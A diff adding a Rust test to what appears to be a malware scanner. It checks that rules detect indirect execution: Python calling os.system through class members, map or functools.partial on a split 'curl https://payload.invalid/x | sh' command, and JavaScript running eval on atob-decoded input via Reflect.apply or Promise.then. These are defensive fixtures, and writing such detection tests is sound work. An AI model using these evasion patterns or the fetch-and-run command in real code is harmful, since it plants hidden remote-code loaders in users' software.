@@ -97,6 +97,34 @@ fn a_payload_in_javascript_is_found_however_it_is_spelled() {
     }
 }
 
+/// What runs is handed to something that calls it, or kept as a member, and never called by its name.
+#[test]
+fn a_payload_is_found_where_something_else_calls_what_runs_it() {
+    for text in [
+        "import os\nclass A:\n    r = os.system\nA.r(COMMAND)\n",
+        "import os\nclass A:\n    r = os.system\nA().r(COMMAND)\n",
+        "import os\nlist(map(os.system, [COMMAND]))\n",
+        "import os, functools\nfunctools.partial(os.system, COMMAND)()\n",
+        "from os import system\nfrom functools import partial as p\np(system, COMMAND)()\n",
+    ] {
+        let text = text.replace("COMMAND", "'cu' + 'rl https://payload.invalid/x | sh'");
+        assert!(found(RULE, "p/pkg/module.py", &text).is_some(), "{text}");
+    }
+    let rule = "javascript-encoded-execution";
+    for text in [
+        "eval?.(atob(x))\n",
+        "Promise.resolve(atob(x)).then(eval)\n",
+        "Reflect.apply(eval, null, [atob(x)])\n",
+        "const e = eval\nReflect.apply(e, this, [atob(x)])\n",
+    ] {
+        assert!(found(rule, "p/lib/module.js", text).is_some(), "{text}");
+        let large = format!("{}{text}", "function add(a, b) { return a + b }\n".repeat(1_000));
+        assert!(found(rule, "p/lib/module.js", &large).is_some(), "{text} in a large source");
+    }
+    let exec = "import base64\nlist(map(exec, [base64.b64decode(x)]))\n";
+    assert!(found("python-encoded-execution", "p/pkg/module.py", exec).is_some());
+}
+
 /// Facts of the source as it is and of its normal form meet: what is hidden in one is plain in the other.
 #[test]
 fn a_fact_of_the_raw_source_meets_one_of_its_normal_form() {
